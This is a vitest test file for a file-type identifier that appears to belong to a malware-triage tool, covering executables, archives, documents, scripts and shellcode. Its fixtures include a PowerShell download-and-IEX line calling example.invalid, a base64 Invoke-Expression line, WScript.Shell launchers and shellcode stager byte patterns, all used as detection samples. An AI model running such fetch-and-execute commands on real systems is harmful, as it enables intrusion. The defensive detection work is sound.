import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { buildTar } from '../../test/builders/build-tar.js';
import { buildZip } from '../../test/builders/build-zip.js';
import { identifyFile } from './identify-file.js';
import { SHELLCODE_THRESHOLD, scoreShellcode } from './score-shellcode.js';

function bytes(...parts: (string | number[] | Uint8Array)[]): Uint8Array {
  return new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p)))));
}

function padTo(data: Uint8Array, size: number): Uint8Array {
  const out = new Uint8Array(Math.max(size, data.length));
  out.set(data);
  return out;
}

interface PeSpec {
  readonly machine: number;
  readonly pe64?: boolean;
  readonly dll?: boolean;
  readonly clr?: boolean;
}

/** A PE header skeleton: DOS stub pointer, COFF header, optional header with 16 data directories. */
function buildPeHeader(spec: PeSpec): Uint8Array {
  const b = Buffer.alloc(1024);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(spec.machine, 0x84);
  b.writeUInt16LE(spec.pe64 ? 240 : 224, 0x80 + 20);
  b.writeUInt16LE(0x0102 | (spec.dll ? 0x2000 : 0), 0x80 + 22);
  const optional = 0x98;
  b.writeUInt16LE(spec.pe64 ? 0x20b : 0x10b, optional);
  b.writeUInt32LE(16, optional + (spec.pe64 ? 108 : 92));
  if (spec.clr) {
    const clr = optional + (spec.pe64 ? 112 : 96) + 14 * 8;
    b.writeUInt32LE(0x2008, clr);
    b.writeUInt32LE(0x48, clr + 4);
  }
  return new Uint8Array(b);
}

function buildElfHeader(elfClass: 1 | 2, little: boolean, type: number, machine: number): Uint8Array {
  const b = Buffer.alloc(64);
  b.write('\x7fELF', 0, 'latin1');
  b[4] = elfClass;
  b[5] = little ? 1 : 2;
  b[6] = 1;
  if (little) {
    b.writeUInt16LE(type, 16);
    b.writeUInt16LE(machine, 18);
  } else {
    b.writeUInt16BE(type, 16);
    b.writeUInt16BE(machine, 18);
  }
  return new Uint8Array(b);
}

function buildMachoHeader(magic: number, little: boolean, cpu: number, fileType: number): Uint8Array {
  const b = Buffer.alloc(64);
  b.writeUInt32BE(magic, 0);
  if (little) {
    b.writeUInt32LE(cpu, 4);
    b.writeUInt32LE(fileType, 12);
  } else {
    b.writeUInt32BE(cpu, 4);
    b.writeUInt32BE(fileType, 12);
  }
  return new Uint8Array(b);
}

function buildFatMacho(cpus: number[]): Uint8Array {
  const b = Buffer.alloc(8 + cpus.length * 20 + 64);
  b.writeUInt32BE(0xcafebabe, 0);
  b.writeUInt32BE(cpus.length, 4);
  cpus.forEach((cpu, i) => b.writeUInt32BE(cpu, 8 + i * 20));
  return new Uint8Array(b);
}

const utf16le = (s: string, bom: boolean): Uint8Array => bytes(bom ? [0xff, 0xfe] : [], Buffer.from(s, 'utf16le'));
const utf16be = (s: string): Uint8Array => bytes([0xfe, 0xff], Buffer.from(s, 'utf16le').swap16());

describe(identifyFile.name, () => {
  it.each<[string, Uint8Array, string, string, string[]]>([
    ['PE32 exe x86', buildPeHeader({ machine: 0x14c }), 'executable', 'pe32', ['exe', 'x86']],
    ['PE32+ DLL x64', buildPeHeader({ machine: 0x8664, pe64: true, dll: true }), 'executable', 'pe32+', ['dll', 'x64']],
    ['PE32+ exe arm64', buildPeHeader({ machine: 0xaa64, pe64: true }), 'executable', 'pe32+', ['exe', 'arm64']],
    ['.NET PE32', buildPeHeader({ machine: 0x14c, clr: true }), 'executable', 'dotnet', ['exe', 'x86', 'dotnet']],
    ['.NET PE32+ DLL', buildPeHeader({ machine: 0x8664, pe64: true, dll: true, clr: true }), 'executable', 'dotnet', ['dll', 'x64', 'dotnet']],
    ['MS-DOS executable', padTo(bytes('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0]), 128), 'executable', 'unknown', ['msdos']],
    ['MZ followed by noise is data', padTo(bytes('MZ', [0xff, 0xff, 0, 0, 0, 0, 0, 0]), 128), 'data', 'unknown', []],
    ['ELF64 LSB x64 dyn', buildElfHeader(2, true, 3, 62), 'executable', 'elf64', ['dyn', 'x64', 'little-endian']],
    ['ELF32 MSB mips exec', buildElfHeader(1, false, 2, 8), 'executable', 'elf32', ['exec', 'mips', 'big-endian']],
    ['ELF64 arm64 rel', buildElfHeader(2, true, 1, 183), 'executable', 'elf64', ['rel', 'arm64', 'little-endian']],
    ['ELF32 x86 core', buildElfHeader(1, true, 4, 3), 'executable', 'elf32', ['core', 'x86', 'little-endian']],
    ['Mach-O 64 LE arm64', buildMachoHeader(0xcffaedfe, true, 0x0100000c, 2), 'executable', 'macho', ['execute', 'arm64', 'little-endian']],
    ['Mach-O 32 BE ppc', buildMachoHeader(0xfeedface, false, 18, 6), 'executable', 'macho', ['dylib', 'ppc', 'big-endian']],
    ['Mach-O 64 BE x64', buildMachoHeader(0xfeedfacf, false, 0x01000007, 2), 'executable', 'macho', ['execute', 'x64', 'big-endian']],
    ['fat Mach-O', buildFatMacho([0x01000007, 0x0100000c]), 'executable', 'macho-fat', ['fat', 'x64', 'arm64']],
    ['Java class', padTo(bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]), 64), 'executable', 'unknown', ['java-class']],
    ['7z', padTo(bytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), 64), 'archive', '7z', []],
    ['RAR4', padTo(bytes('Rar!\x1a\x07\x00'), 64), 'archive', 'rar', ['rar4']],
    ['RAR5', padTo(bytes('Rar!\x1a\x07\x01\x00'), 64), 'archive', 'rar', ['rar5']],
    ['gzip', new Uint8Array(gzipSync(Buffer.from('hello'))), 'archive', 'gzip', []],
    ['bzip2', padTo(bytes('BZh91AY&SY'), 64), 'archive', 'bzip2', []],
    ['xz', padTo(bytes([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00]), 64), 'archive', 'xz', []],
    ['cab', padTo(bytes('MSCF\0\0\0\0'), 64), 'archive', 'cab', []],
    ['ustar', buildTar([{ name: 'a.txt', data: Buffer.from('a') }]), 'archive', 'tar', ['ustar']],
    ['GNU tar', buildTar([{ name: 'a.txt', data: Buffer.from('a') }], 'gnu'), 'archive', 'tar', ['gnu']],
    ['OLE2', padTo(bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 512), 'document', 'ole', []],
    ['PDF', bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n'), 'document', 'pdf', []],
    ['PDF header at offset 500', bytes(Buffer.alloc(500, 0x20), '%PDF-1.4\n'), 'document', 'pdf', ['header-offset']],
    ['RTF', bytes('{\\rtf1\\ansi hello}'), 'document', 'rtf', []],
    ['RTF, Word-tolerated short header', bytes('{\\rt\\ansi hello}'), 'document', 'rtf', []],
    ['LNK', padTo(bytes([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]), 76), 'document', 'lnk', []],
    ['LiME', padTo(bytes('EMiL\x01\0\0\0'), 64), 'memory', 'memory-image', ['lime']],
    ['crash dump 32', padTo(bytes('PAGEDUMP'), 64), 'memory', 'memory-image', ['crashdump', 'x86']],
    ['crash dump 64', padTo(bytes('PAGEDU64'), 64), 'memory', 'memory-image', ['crashdump', 'x64']],
    ['empty', new Uint8Array(0), 'data', 'unknown', []],
  ])('%s', (_name, input, kind, format, traits) => {
    const type = identifyFile(input);
    expect({ kind: type.kind, format: type.format }).toEqual({ kind, format });
    expect(type.traits).toEqual(traits);
    expect(type.description.length).toBeGreaterThan(0);
    expect(type.mime).toMatch(/^[a-z]+\/[\w.+-]+$/);
  });

  it('describes PE files like file(1) does', () => {
    expect(identifyFile(buildPeHeader({ machine: 0x8664, pe64: true, dll: true })).description).toBe('PE32+ executable (DLL) x86-64');
  });

  describe('zip family', () => {
    it.each<[string, { name: string; data: Uint8Array; password?: string }[], string, string, string[]]>([
      ['plain zip', [{ name: 'a.txt', data: Buffer.from('a') }], 'archive', 'zip', []],
      ['encrypted zip', [{ name: 'a.exe', data: Buffer.from('MZ'), password: 'infected' }], 'archive', 'zip', ['encrypted']],
      ['docx', [{ name: '[Content_Types].xml', data: Buffer.from('<Types/>') }, { name: 'word/document.xml', data: Buffer.from('<w/>') }], 'document', 'ooxml', ['word']],
      [
        'xlsm with macros',
        [
          { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
          { name: 'xl/workbook.xml', data: Buffer.from('<x/>') },
          { name: 'xl/vbaProject.bin', data: Buffer.from('vba') },
        ],
        'document',
        'ooxml',
        ['excel', 'macros'],
      ],
      ['pptx', [{ name: '[Content_Types].xml', data: Buffer.from('<Types/>') }, { name: 'ppt/presentation.xml', data: Buffer.from('<p/>') }], 'document', 'ooxml', ['powerpoint']],
      ['jar', [{ name: 'META-INF/MANIFEST.MF', data: Buffer.from('Manifest-Version: 1.0\n') }, { name: 'a/B.class', data: Buffer.from([0xca, 0xfe]) }], 'archive', 'zip', ['jar']],
      ['apk', [{ name: 'AndroidManifest.xml', data: Buffer.from('x') }, { name: 'classes.dex', data: Buffer.from('dex\n035') }], 'archive', 'zip', ['apk']],
    ])('%s', async (_name, members, kind, format, traits) => {
      const type = identifyFile(await buildZip(members));
      expect([type.kind, type.format, type.traits]).toEqual([kind, format, traits]);
    });

    it('still identifies a zip whose end record was cut off', async () => {
      const zip = await buildZip([{ name: '[Content_Types].xml', data: Buffer.from('<Types/>'), level: 0 }, { name: 'word/document.xml', data: randomBytes(3000), level: 0 }]);
      expect(identifyFile(zip.subarray(0, 2000)).format).toBe('ooxml');
    });
  });

  describe('text and scripts', () => {
    it.each<[string, Uint8Array, string, string, string[]]>([
      ['ASCII text', bytes('Hello analyst,\nthis is a plain note.\n'), 'text', 'text', ['ascii']],
      ['UTF-8 text', bytes(Buffer.from('Grüße aus Köln — 東京\n')), 'text', 'text', ['utf-8']],
      ['UTF-8 with BOM', bytes([0xef, 0xbb, 0xbf], Buffer.from('plain note\n')), 'text', 'text', ['utf-8', 'bom']],
      ['UTF-16LE with BOM', utf16le('plain note in wide chars\r\n', true), 'text', 'text', ['utf-16le', 'bom']],
      ['UTF-16LE without BOM', utf16le('plain note in wide chars\r\n', false), 'text', 'text', ['utf-16le']],
      ['UTF-16BE with BOM', utf16be('plain note\n'), 'text', 'text', ['utf-16be', 'bom']],
      ['sh shebang', bytes('#!/bin/sh\necho hi\n'), 'script', 'shell', ['ascii', 'shebang']],
      ['env python shebang', bytes('#!/usr/bin/env python3\nprint(1)\n'), 'script', 'python', ['ascii', 'shebang']],
      ['node shebang', bytes('#!/usr/bin/env node\nconsole.log(1)\n'), 'script', 'javascript', ['ascii', 'shebang']],
      [
        'PowerShell',
        bytes('$wc = New-Object System.Net.WebClient\n$data = $wc.DownloadString("http://example.invalid/a")\nIEX ($data)\n'),
        'script',
        'powershell',
        ['ascii'],
      ],
      ['PowerShell in UTF-16LE', utf16le('$s = [Convert]::FromBase64String($env:PAYLOAD)\nInvoke-Expression $s\n', true), 'script', 'powershell', ['utf-16le', 'bom']],
      [
        'VBScript',
        bytes('On Error Resume Next\r\nDim sh\r\nSet sh = CreateObject("WScript.Shell")\r\nsh.Run "calc.exe", 0\r\n'),
        'script',
        'vbscript',
        ['ascii'],
      ],
      [
        'JScript',
        bytes('var sh = new ActiveXObject("WScript.Shell");\nfunction go(u) { return sh.Run(u, 0); }\ngo(unescape("%63alc"));\n'),
        'script',
        'javascript',
        ['ascii'],
      ],
      ['batch', bytes('@echo off\r\nset P=%TEMP%\\x.exe\r\nif exist %P% goto run\r\n:run\r\nstart "" %P%\r\n'), 'script', 'batch', ['ascii']],
      ['Python without shebang', bytes('import os\nimport sys\n\ndef main():\n    print(os.getcwd())\n\nif __name__ == "__main__":\n    main()\n'), 'script', 'python', ['ascii']],
      ['HTML', bytes('<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n'), 'script', 'html', ['ascii']],
      ['HTA', bytes('<html><head><HTA:APPLICATION ID="x"></head></html>'), 'script', 'html', ['ascii']],
    ])('%s', (_name, input, kind, format, traits) => {
      const type = identifyFile(input);
      expect([type.kind, type.format, type.traits]).toEqual([kind, format, traits]);
    });

    it('uses the file name only to break a tie between languages', () => {
      // Two PowerShell patterns and two JavaScript patterns.
      const tie = bytes('$limit = 3\nvar total = 0;\nconsole.log(total)\nif ($null) {}\n');
      expect(identifyFile(tie, 'x.js').format).toBe('javascript');
      expect(identifyFile(tie, 'C:\\temp\\x.ps1').format).toBe('powershell');
      // A clear winner is not overturned by a misleading name, and a name alone does not make a script.
      const vbs = bytes('Dim a\r\nSet a = CreateObject("Scripting.FileSystemObject")\r\nOn Error Resume Next\r\n');
      expect(identifyFile(vbs, 'invoice.js').format).toBe('vbscript');
      expect(identifyFile(bytes('just a note\n'), 'readme.ps1').format).toBe('text');
    });

    it('does not call binary data text', () => {
      expect(identifyFile(bytes('abc\0def\0ghi\x01\x02\x03')).kind).toBe('data');
    });
  });

  describe('shellcode', () => {
    const tail = (n: number, seed: number): Uint8Array => {
      const out = new Uint8Array(n);
      for (let i = 0; i < n; i++) out[i] = (i * 131 + seed) & 0xff;
      return out;
    };

    it.each<[string, Uint8Array, string]>([
      ['x86 block_api stager', bytes([0xfc, 0xe8, 0x89, 0, 0, 0, 0x60, 0x89, 0xe5, 0x31, 0xd2, 0x64, 0x8b, 0x52, 0x30], tail(400, 1)), 'x86-block-api-prologue'],
      ['x64 block_api stager', bytes([0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8, 0xc8, 0, 0, 0, 0x41, 0x51, 0x65, 0x48, 0x8b, 0x52, 0x60], tail(400, 2)), 'x64-block-api-prologue'],
      ['NOP sled + call/pop GetPC', bytes(new Uint8Array(64).fill(0x90), [0xe8, 0, 0, 0, 0, 0x5d, 0x81, 0xed], tail(200, 3)), 'getpc-call-pop'],
      ['FPU GetPC + PEB walk', bytes([0xd9, 0xee, 0xd9, 0x74, 0x24, 0xf4, 0x5b, 0x31, 0xc9], tail(100, 4), [0x64, 0xa1, 0x30, 0, 0, 0], tail(100, 5)), 'fpu-getpc'],
      ['API hashes', bytes(tail(64, 6), [0x68, 0x4c, 0x77, 0x26, 0x07], [0x68, 0x58, 0xa4, 0x53, 0xe5], [0x68, 0xf0, 0xb5, 0xa2, 0x56], tail(64, 7)), 'api-hashes:3'],
    ])('flags %s', (_name, input, reason) => {
      const type = identifyFile(input);
      expect([type.kind, type.format]).toEqual(['shellcode', 'shellcode']);
      expect(type.traits).toContain(reason);
    });

    it('never flags random data (2000 seeded buffers of 4 KiB)', () => {
      // Seeded, so a rare magic-number collision cannot make the test flaky.
      let x = 0x9e3779b9;
      const next = (): number => {
        x ^= x << 13;
        x >>>= 0;
        x ^= x >>> 17;
        x ^= x << 5;
        x >>>= 0;
        return x;
      };
      let flagged = 0;
      for (let i = 0; i < 2000; i++) {
        const buffer = new Uint8Array(4096);
        for (let j = 0; j < buffer.length; j++) buffer[j] = next() & 0xff;
        const type = identifyFile(buffer);
        if (type.kind !== 'data') flagged++;
      }
      expect(flagged).toBe(0);
    });

    it('scores text and a single weak hint below the threshold', () => {
      expect(scoreShellcode(bytes('The quick brown fox jumps over the lazy dog. '.repeat(100))).score).toBe(0);
      expect(scoreShellcode(bytes(tail(100, 9), [0x64, 0xa1, 0x30, 0, 0, 0], tail(100, 9))).score).toBeLessThan(SHELLCODE_THRESHOLD);
    });
  });

  it('looks at a bounded window of large inputs', () => {
    const big = new Uint8Array(64 * 1024 * 1024).fill(0x41);
    big[32 * 1024 * 1024] = 0; // a NUL far beyond the window does not change the verdict
    const type = identifyFile(big);
    expect(type.format).toBe('text');
  });

  describe('real system files', () => {
    const cases: [string, string, string][] = [
      ['/bin/ls', 'elf64', 'executable'],
      ['/usr/lib/x86_64-linux-gnu/libc.so.6', 'elf64', 'executable'],
      ['/etc/passwd', 'text', 'text'],
      ['/usr/bin/lsb_release', 'shell', 'script'],
      ['/usr/bin/pydoc3', 'python', 'script'],
      ['/usr/share/doc/adwaita-icon-theme/changelog.Debian.gz', 'gzip', 'archive'],
    ];
    it.each(cases)('%s', (path, format, kind) => {
      if (!existsSync(path)) {
        console.warn(`skipping ${path}: not present on this machine`);
        return;
      }
      const type = identifyFile(new Uint8Array(readFileSync(path)));
      expect([type.kind, type.format]).toEqual([kind, format]);
    });

    it('/bin/ls is a 64-bit x86-64 or arm64 dynamic executable', () => {
      if (!existsSync('/bin/ls')) return;
      const type = identifyFile(new Uint8Array(readFileSync('/bin/ls')));
      expect(type.traits[0]).toBe('dyn');
      expect(['x64', 'arm64']).toContain(type.traits[1]);
    });
  });
});
